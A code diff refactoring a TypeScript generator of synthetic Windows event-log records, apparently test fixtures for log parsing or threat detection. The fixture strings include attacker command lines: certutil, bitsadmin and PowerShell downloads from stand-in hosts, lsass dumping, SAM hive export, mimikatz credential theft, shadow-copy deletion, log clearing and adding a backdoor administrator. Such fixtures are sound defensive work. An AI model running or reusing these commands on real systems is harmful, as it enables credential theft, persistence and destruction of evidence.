@@ -12,70 +12,38 @@ const GUID = '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}';
 const SYSTEM32 = 'C:\\Windows\\System32\\';
 
 /** Image, command line, parent, original file name. */
-const STARTS: readonly (readonly [string, string, string, string])[] = [
-  [
-    `${SYSTEM32}certutil.exe`,
-    'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe "C:\\Users\\Public\\a b.exe"',
-    `${SYSTEM32}cmd.exe`,
-    'CertUtil.exe',
-  ],
-  [
-    `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`,
-    'powershell -nop -w hidden -enc SQBFAFgA -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x\')"',
-    `${SYSTEM32}WINWORD.EXE`,
-    'PowerShell.EXE',
-  ],
-  [`${SYSTEM32}whoami.exe`, 'whoami /all', `${SYSTEM32}services.exe`, 'whoami.exe'],
-  [`${SYSTEM32}vssadmin.exe`, 'vssadmin delete shadows /all /quiet', `${SYSTEM32}cmd.exe`, 'VSSADMIN.EXE'],
-  [
-    `${SYSTEM32}rundll32.exe`,
-    `rundll32.exe ${SYSTEM32}comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full`,
-    `${SYSTEM32}cmd.exe`,
-    'RUNDLL32.EXE',
-  ],
-  [`${SYSTEM32}reg.exe`, 'reg save HKLM\\SAM C:\\temp\\sam.hiv', `${SYSTEM32}cmd.exe`, 'reg.exe'],
-  [
-    `${SYSTEM32}schtasks.exe`,
-    'schtasks /create /tn "Größe" /tr C:\\ü.exe /sc onlogon /ru SYSTEM',
-    `${SYSTEM32}cmd.exe`,
-    'schtasks.exe',
-  ],
-  [
-    `${SYSTEM32}net.exe`,
-    'net user adm P@ss<1>&"2" /add & net localgroup Administrators adm /add',
-    `${SYSTEM32}cmd.exe`,
-    'net.exe',
-  ],
-  [
-    `${SYSTEM32}mshta.exe`,
-    'mshta.exe javascript:a=GetObject("script:http://x/{\\"a\\":1}");',
-    'C:\\Program Files\\Microsoft Office\\EXCEL.EXE',
-    'MSHTA.EXE',
-  ],
-  [
-    `${SYSTEM32}wbem\\WMIC.exe`,
-    "wmic /node:10.0.0.2 process call create 'cmd.exe /c whoami;ipconfig,x'",
-    `${SYSTEM32}cmd.exe`,
-    'wmic.exe',
-  ],
-  [`${SYSTEM32}regsvr32.exe`, 'regsvr32 /s /n /u /i:http://x/file.sct scrobj.dll', `${SYSTEM32}cmd.exe`, 'REGSVR32.EXE'],
-  [
-    `${SYSTEM32}bitsadmin.exe`,
-    'bitsadmin /transfer n http://198.51.100.7/x C:\\temp\\x.exe',
-    `${SYSTEM32}cmd.exe`,
-    'bitsadmin.exe',
-  ],
-  [`${SYSTEM32}wevtutil.exe`, 'wevtutil cl Security', `${SYSTEM32}cmd.exe`, 'wevtutil.exe'],
-  [`${SYSTEM32}nltest.exe`, 'nltest /domain_trusts', `${SYSTEM32}cmd.exe`, 'nltestrk.exe'],
-  [
-    'C:\\Users\\bob\\mimikatz.exe',
-    'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
-    `${SYSTEM32}cmd.exe`,
-    'mimikatz.exe',
-  ],
-  ['C:\\Tools\\PsExec64.exe', 'PsExec64.exe -accepteula -s \\\\dc cmd', `${SYSTEM32}cmd.exe`, 'psexec.c'],
-  [`${SYSTEM32}svchost.exe`, `${SYSTEM32}svchost.exe -k netsvcs`, 'C:\\Users\\bob\\x.exe', 'svchost.exe'],
-  [`${SYSTEM32}notepad.exe`, '', `${SYSTEM32}explorer.exe`, '-'],
+type Start = readonly [image: string, commandLine: string, parent: string, original: string];
+const start = (program: string, commandLine: string, original = program, parent = 'cmd.exe'): Start => [
+  program.includes(':') ? program : SYSTEM32 + program,
+  commandLine,
+  parent.includes(':') ? parent : SYSTEM32 + parent,
+  original,
+];
+const DOWNLOAD = 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe "C:\\Users\\Public\\a b.exe"';
+const HIDDEN = 'powershell -nop -w hidden -enc SQBFAFgA -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x\')"';
+const SCRIPT = 'mshta.exe javascript:a=GetObject("script:http://x/{\\"a\\":1}");';
+const WMIC = "wmic /node:10.0.0.2 process call create 'cmd.exe /c whoami;ipconfig,x'";
+const MIMIKATZ = 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit';
+
+const STARTS: readonly Start[] = [
+  start('certutil.exe', DOWNLOAD, 'CertUtil.exe'),
+  start('WindowsPowerShell\\v1.0\\powershell.exe', HIDDEN, 'PowerShell.EXE', 'WINWORD.EXE'),
+  start('whoami.exe', 'whoami /all', 'whoami.exe', 'services.exe'),
+  start('vssadmin.exe', 'vssadmin delete shadows /all /quiet', 'VSSADMIN.EXE'),
+  start('rundll32.exe', `rundll32.exe ${SYSTEM32}comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full`, 'RUNDLL32.EXE'),
+  start('reg.exe', 'reg save HKLM\\SAM C:\\temp\\sam.hiv'),
+  start('schtasks.exe', 'schtasks /create /tn "Größe" /tr C:\\ü.exe /sc onlogon /ru SYSTEM'),
+  start('net.exe', 'net user adm P@ss<1>&"2" /add & net localgroup Administrators adm /add'),
+  start('mshta.exe', SCRIPT, 'MSHTA.EXE', 'C:\\Program Files\\Microsoft Office\\EXCEL.EXE'),
+  start('wbem\\WMIC.exe', WMIC, 'wmic.exe'),
+  start('regsvr32.exe', 'regsvr32 /s /n /u /i:http://x/file.sct scrobj.dll', 'REGSVR32.EXE'),
+  start('bitsadmin.exe', 'bitsadmin /transfer n http://198.51.100.7/x C:\\temp\\x.exe'),
+  start('wevtutil.exe', 'wevtutil cl Security'),
+  start('nltest.exe', 'nltest /domain_trusts', 'nltestrk.exe'),
+  start('C:\\Users\\bob\\mimikatz.exe', MIMIKATZ, 'mimikatz.exe'),
+  start('C:\\Tools\\PsExec64.exe', 'PsExec64.exe -accepteula -s \\\\dc cmd', 'psexec.c'),
+  start('svchost.exe', `${SYSTEM32}svchost.exe -k netsvcs`, 'svchost.exe', 'C:\\Users\\bob\\x.exe'),
+  start('notepad.exe', '', '-', 'explorer.exe'),
 ];
 
 /** Values of a field, by turns. Fields without values of their own get one from their name. */
@@ -328,194 +296,72 @@ const SCRIPTS = [
   '',
 ];
 
+const fields = (values: Readonly<Record<string, string>>): Datum[] => Object.entries(values);
+const withoutNames = (...values: string[]): Datum[] => values.map((value) => ['', value]);
+
 function powershell(): void {
-  for (const id of [400, 403, 600])
-    add(...CLASSIC, id, [
-      ['', 'Available'],
-      ['', 'None'],
-      ['', ENGINE],
-    ]);
-  add(...CLASSIC, 800, [
-    ['', 'Get-Item'],
-    ['', '\tDetailSequence=1\r\n\tUserId=CORP\\bob'],
-    ['', 'CommandInvocation(Get-Item): "Get-Item"\r\n'],
-  ]);
-  const context =
+  for (const id of [400, 403, 600]) add(...CLASSIC, id, withoutNames('Available', 'None', ENGINE));
+  const detail = '\tDetailSequence=1\r\n\tUserId=CORP\\bob';
+  add(...CLASSIC, 800, withoutNames('Get-Item', detail, 'CommandInvocation(Get-Item): "Get-Item"\r\n'));
+  const ContextInfo =
     '        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Application = powershell -nop -enc SQBFAFgA\r\n';
-  add(...MODERN, 4103, [
-    ['ContextInfo', context],
-    ['UserData', ''],
-    [
-      'Payload',
-      'CommandInvocation(Invoke-Mimikatz): "Invoke-Mimikatz"\r\nParameterBinding(Get-Item): name="Path"; value="C:\\"\r\n',
-    ],
-  ]);
-  for (const [turn, text] of SCRIPTS.entries())
-    add(...MODERN, 4104, [
-      ['MessageNumber', '1'],
-      ['MessageTotal', '1'],
-      ['ScriptBlockText', text],
-      ['ScriptBlockId', `50d2dbda-7361-4926-a94d-d9eadfdb43b${turn}`],
-      ['Path', turn === 0 ? 'C:\\x.ps1' : ''],
-    ]);
-  for (const id of [4105, 4106])
-    add(...MODERN, id, [
-      ['ScriptBlockId', '50d2dbda-7361-4926-a94d-d9eadfdb43b0'],
-      ['RunspaceId', 'cb1b0c5b'],
-    ]);
+  const Payload =
+    'CommandInvocation(Invoke-Mimikatz): "Invoke-Mimikatz"\r\nParameterBinding(Get-Item): name="Path"; value="C:\\"\r\n';
+  add(...MODERN, 4103, fields({ ContextInfo, UserData: '', Payload }));
+  const script = '50d2dbda-7361-4926-a94d-d9eadfdb43b';
+  for (const [turn, ScriptBlockText] of SCRIPTS.entries()) {
+    const block = { ScriptBlockText, ScriptBlockId: `${script}${turn}`, Path: turn === 0 ? 'C:\\x.ps1' : '' };
+    add(...MODERN, 4104, fields({ MessageNumber: '1', MessageTotal: '1', ...block }));
+  }
+  for (const id of [4105, 4106]) add(...MODERN, id, fields({ ScriptBlockId: `${script}0`, RunspaceId: 'cb1b0c5b' }));
 }
 
 function wmiAndUserData(): void {
-  add(
-    ...WMI,
-    5857,
-    [
-      ['ProviderName', 'CIMWin32'],
-      ['Code', '0x0'],
-      ['HostProcess', 'wmiprvse.exe'],
-      ['ProcessID', '624'],
-      ['ProviderPath', '%systemroot%\\system32\\wbem\\cimwin32.dll'],
-    ],
-    { wrapper: 'Operation_StartedOperational' },
-  );
-  add(
-    ...WMI,
-    5858,
-    [
-      ['Id', '{00000000-0000-0000-0000-000000000000}'],
-      ['ClientMachine', 'PC1'],
-      ['User', 'CORP\\bob'],
-      ['ResultCode', '0x80041032'],
-      ['PossibleCause', 'Unknown'],
-    ],
-    { wrapper: 'Operation_ClientFailure' },
-  );
-  add(
-    ...WMI,
-    5860,
-    [
-      ['NamespaceName', '//./root/CIMV2'],
-      ['Query', "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'x'"],
-      ['User', 'bob'],
-      ['Processid', '624'],
-      ['ClientMachine', 'PC1'],
-      ['PossibleCause', 'Temporary'],
-    ],
-    { wrapper: 'Operation_TemporaryEssStarted' },
-  );
-  const consumer =
+  const user = (source: readonly [string, string], id: number, wrapper: string, values: Readonly<Record<string, string>>) =>
+    add(...source, id, fields(values), { wrapper });
+  const ofChannel = (name: string, channel = 'Operational') => [`${name}/${channel}`, name] as const;
+  const ProviderPath = '%systemroot%\\system32\\wbem\\cimwin32.dll';
+  const provider = { ProviderName: 'CIMWin32', Code: '0x0', HostProcess: 'wmiprvse.exe', ProcessID: '624', ProviderPath };
+  user(WMI, 5857, 'Operation_StartedOperational', provider);
+  const Id = '{00000000-0000-0000-0000-000000000000}';
+  const failure = { Id, ClientMachine: 'PC1', User: 'CORP\\bob', ResultCode: '0x80041032', PossibleCause: 'Unknown' };
+  user(WMI, 5858, 'Operation_ClientFailure', failure);
+  const Query = "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'x'";
+  const ess = { NamespaceName: '//./root/CIMV2', Query, User: 'bob', Processid: '624', ClientMachine: 'PC1' };
+  user(WMI, 5860, 'Operation_TemporaryEssStarted', { ...ess, PossibleCause: 'Temporary' });
+  const PossibleCause =
     'instance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = "powershell.exe -enc x";\n\tName = "evil";\n};\n';
-  add(
-    ...WMI,
-    5861,
-    [
-      ['Namespace', '//./ROOT/subscription'],
-      ['ESS', 'evil'],
-      ['CONSUMER', 'CommandLineEventConsumer="evil"'],
-      ['PossibleCause', consumer],
-    ],
-    { wrapper: 'Operation_ESStoConsumerBinding' },
-  );
-  add(
-    'System',
-    'Microsoft-Windows-Eventlog',
-    104,
-    [
-      ['SubjectUserName', 'bob'],
-      ['SubjectDomainName', 'CORP'],
-      ['Channel', 'System'],
-      ['BackupPath', ''],
-    ],
-    { wrapper: 'LogFileCleared' },
-  );
-  add(
-    'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational',
-    'Microsoft-Windows-TerminalServices-LocalSessionManager',
-    21,
-    [
-      ['User', 'CORP\\bob'],
-      ['SessionID', '3'],
-      ['Address', '::%16777216'],
-    ],
-    { wrapper: 'EventXML' },
-  );
-  add(
-    'Microsoft-Windows-PrintService/Operational',
-    'Microsoft-Windows-PrintService',
-    316,
-    [
-      ['Param1', 'Mimikatz Printer'],
-      ['Param2', 'Windows x64'],
-      ['Param3', 'mimilib.dll'],
-    ],
-    { wrapper: 'PrinterDriverAdded' },
-  );
-  add(
-    'Microsoft-Windows-AppLocker/EXE and DLL',
-    'Microsoft-Windows-AppLocker',
-    8004,
-    [
-      ['PolicyName', 'EXE'],
-      ['FullFilePath', '%OSDRIVE%\\x.exe'],
-      ['Fqbn', '-'],
-    ],
-    { wrapper: 'RuleAndFileData' },
-  );
+  const binding = { Namespace: '//./ROOT/subscription', ESS: 'evil', CONSUMER: 'CommandLineEventConsumer="evil"', PossibleCause };
+  user(WMI, 5861, 'Operation_ESStoConsumerBinding', binding);
+  const cleared = { SubjectUserName: 'bob', SubjectDomainName: 'CORP', Channel: 'System', BackupPath: '' };
+  user(['System', 'Microsoft-Windows-Eventlog'], 104, 'LogFileCleared', cleared);
+  const session = { User: 'CORP\\bob', SessionID: '3', Address: '::%16777216' };
+  user(ofChannel('Microsoft-Windows-TerminalServices-LocalSessionManager'), 21, 'EventXML', session);
+  const printer = { Param1: 'Mimikatz Printer', Param2: 'Windows x64', Param3: 'mimilib.dll' };
+  user(ofChannel('Microsoft-Windows-PrintService'), 316, 'PrinterDriverAdded', printer);
+  const file = { PolicyName: 'EXE', FullFilePath: '%OSDRIVE%\\x.exe', Fqbn: '-' };
+  user(ofChannel('Microsoft-Windows-AppLocker', 'EXE and DLL'), 8004, 'RuleAndFileData', file);
 }
 
 function others(): void {
-  const service = (ServiceName: string, ImagePath: string): Datum[] => [
-    ['ServiceName', ServiceName],
-    ['ImagePath', ImagePath],
-    ['ServiceType', 'user mode service'],
-    ['StartType', 'demand start'],
-    ['AccountName', 'LocalSystem'],
-  ];
-  add('System', 'Service Control Manager', 7045, service('PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'));
-  add(
-    'System',
-    'Service Control Manager',
-    7045,
-    service('BTOBTO', '%COMSPEC% /C echo x ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 "<&>"'),
-  );
-  add('System', 'Service Control Manager', 7036, [
-    ['param1', 'Windows Defender Antivirus Service'],
-    ['param2', 'stopped'],
-    ['Binary', '570069006E004400'],
-  ]);
-  add('System', 'Service Control Manager', 7040, [
-    ['param1', 'Windows Event Log'],
-    ['param2', 'auto start'],
-    ['param3', 'disabled'],
-    ['param4', 'EventLog'],
-  ]);
-  add('System', 'User32', 1074, [
-    ['', 'C:\\Windows\\system32\\shutdown.exe (PC1)'],
-    ['', 'PC1'],
-    ['', 'x'],
-    ['Binary', '00000000'],
-  ]);
-  add('Application', 'Application Error', 1000, [
-    ['', 'lsass.exe'],
-    ['', '6.1.7601.17725'],
-    ['', 'WDigest.dll'],
-    ['', ''],
-  ]);
-  add('Application', 'MsiInstaller', 1033, [
-    ['', 'Tool "x"'],
-    ['', '1.0'],
-    ['', '1033'],
-    ['Binary', '7B41'],
-  ]);
-  add('Application', 'MSSQLSERVER', 18456, [
-    ['', 'sa'],
-    ['', ' Reason: Password did not match <that> & "this".'],
-    ['', ' [CLIENT: 10.1.1.7]'],
-  ]);
-  add('Application', 'ESENT', 325, [
-    ['', 'ntdsutil'],
-    ['', 'C:\\temp\\ntds.dit'],
-  ]);
+  const services = ['System', 'Service Control Manager'] as const;
+  const installed = (ServiceName: string, ImagePath: string): void => {
+    const kind = { ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' };
+    add(...services, 7045, fields({ ServiceName, ImagePath, ...kind }));
+  };
+  installed('PSEXESVC', '%SystemRoot%\\PSEXESVC.exe');
+  installed('BTOBTO', '%COMSPEC% /C echo x ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 "<&>"');
+  const Binary = '570069006E004400';
+  add(...services, 7036, fields({ param1: 'Windows Defender Antivirus Service', param2: 'stopped', Binary }));
+  const start = { param1: 'Windows Event Log', param2: 'auto start', param3: 'disabled', param4: 'EventLog' };
+  add(...services, 7040, fields(start));
+  const shutdown = withoutNames('C:\\Windows\\system32\\shutdown.exe (PC1)', 'PC1', 'x');
+  add('System', 'User32', 1074, [...shutdown, ['Binary', '00000000']]);
+  add('Application', 'Application Error', 1000, withoutNames('lsass.exe', '6.1.7601.17725', 'WDigest.dll', ''));
+  add('Application', 'MsiInstaller', 1033, [...withoutNames('Tool "x"', '1.0', '1033'), ['Binary', '7B41']]);
+  const reason = ' Reason: Password did not match <that> & "this".';
+  add('Application', 'MSSQLSERVER', 18456, withoutNames('sa', reason, ' [CLIENT: 10.1.1.7]'));
+  add('Application', 'ESENT', 325, withoutNames('ntdsutil', 'C:\\temp\\ntds.dit'));
   for (const [id, names] of Object.entries({
     106: 'TaskName UserContext',
     129: 'Path Priority ProcessID TaskName',
@@ -524,63 +370,24 @@ function others(): void {
     200: 'ActionName EnginePID TaskInstanceId TaskName',
   }))
     add(...TASKS, Number(id), named(names.split(' '), 1));
-  const threat = [
-    'Product Name',
-    'Product Version',
-    'Detection ID',
-    'Threat ID',
-    'Threat Name',
-    'Severity Name',
-    'Category Name',
-    'Source Name',
-    'Process Name',
-    'Path',
-  ];
-  for (const id of [1116, 1117])
-    add(
-      ...DEFENDER,
-      id,
-      threat.map((name) => [
-        name,
-        name === 'Threat Name' ? 'HackTool:Win32/Mimikatz.D' : name === 'Source Name' ? 'AMSI' : `${name} x`,
-      ]),
-    );
-  add(...DEFENDER, 5001, [
-    ['Product Name', 'Microsoft Defender'],
-    ['Product Version', '4.18'],
-  ]);
-  add(...DEFENDER, 5007, [
-    ['Product Name', 'Microsoft Defender'],
-    ['Old Value', ''],
-    ['New Value', 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ = 0x0'],
-  ]);
-  add('Microsoft-Windows-Bits-Client/Operational', 'Microsoft-Windows-Bits-Client', 16403, [
-    ['User', 'CORP\\bob'],
-    ['jobTitle', 'x'],
-    ['jobId', '{365ABB72-0D1D-5CD7-0000-001020EF1500}'],
-    ['RemoteName', 'http://198.51.100.7/x.exe'],
-    ['LocalName', 'C:\\Users\\Public\\x.exe'],
-    ['processId', '624'],
-  ]);
-  add(
-    'Microsoft-Windows-Windows Firewall With Advanced Security/Firewall',
-    'Microsoft-Windows-Windows Firewall With Advanced Security',
-    2004,
-    [
-      ['RuleId', 'x'],
-      ['RuleName', 'Übel'],
-      ['ApplicationPath', 'C:\\Users\\Public\\x.exe'],
-      ['ModifyingApplication', 'C:\\x.exe'],
-      ['Action', '3'],
-    ],
-  );
-  add('Microsoft-Windows-NTLM/Operational', 'Microsoft-Windows-Security-Netlogon', 8004, [
-    ['SChannelName', 'PC1'],
-    ['UserName', 'bob'],
-    ['DomainName', 'CORP'],
-    ['WorkstationName', 'KALI'],
-    ['SChannelType', '2'],
-  ]);
+  const threat =
+    'Product Name,Product Version,Detection ID,Threat ID,Threat Name,Severity Name,Category Name,Source Name,Process Name,Path';
+  const threatValue = (name: string): string =>
+    ({ 'Threat Name': 'HackTool:Win32/Mimikatz.D', 'Source Name': 'AMSI' })[name] ?? `${name} x`;
+  for (const id of [1116, 1117]) add(...DEFENDER, id, named(threat.split(','), 0, {}, threatValue));
+  const product = { 'Product Name': 'Microsoft Defender' };
+  add(...DEFENDER, 5001, fields({ ...product, 'Product Version': '4.18' }));
+  const excluded = 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ = 0x0';
+  add(...DEFENDER, 5007, fields({ ...product, 'Old Value': '', 'New Value': excluded }));
+  const job = { User: 'CORP\\bob', jobTitle: 'x', jobId: '{365ABB72-0D1D-5CD7-0000-001020EF1500}' };
+  const names = { RemoteName: 'http://198.51.100.7/x.exe', LocalName: 'C:\\Users\\Public\\x.exe', processId: '624' };
+  const bits = 'Microsoft-Windows-Bits-Client';
+  add(`${bits}/Operational`, bits, 16403, fields({ ...job, ...names }));
+  const rule = { RuleId: 'x', RuleName: 'Übel', ApplicationPath: 'C:\\Users\\Public\\x.exe', ModifyingApplication: 'C:\\x.exe' };
+  const firewall = 'Microsoft-Windows-Windows Firewall With Advanced Security';
+  add(`${firewall}/Firewall`, firewall, 2004, fields({ ...rule, Action: '3' }));
+  const logon = { SChannelName: 'PC1', UserName: 'bob', DomainName: 'CORP', WorkstationName: 'KALI', SChannelType: '2' };
+  add('Microsoft-Windows-NTLM/Operational', 'Microsoft-Windows-Security-Netlogon', 8004, fields(logon));
 }
 
 /** Always the same, and always 300. */
